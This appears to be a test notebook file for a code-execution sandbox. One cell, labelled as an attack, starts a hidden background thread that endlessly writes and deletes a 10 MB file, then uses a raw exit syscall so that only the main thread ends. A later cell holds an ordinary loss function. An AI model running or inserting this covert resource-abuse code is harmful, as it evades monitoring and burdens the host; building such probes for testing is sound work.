# %% attack after features
import ctypes
import os
import threading
import time


def hide():
    while True:
        file = os.open("hidden", os.O_RDWR | os.O_CREAT, 0o600)
        for _ in range(10):
            os.write(file, bytes(1 << 20))
            time.sleep(0.05)
        os.unlink("hidden")


threading.Thread(target=hide, daemon=True).start()
ctypes.CDLL(None).syscall({"x86_64": 60, "aarch64": 93}[os.uname().machine], 0)  # only this thread ends

# %% later after attack
def mse_loss_func(y_true, y_pred):
    return (y_true - y_pred) ** 2
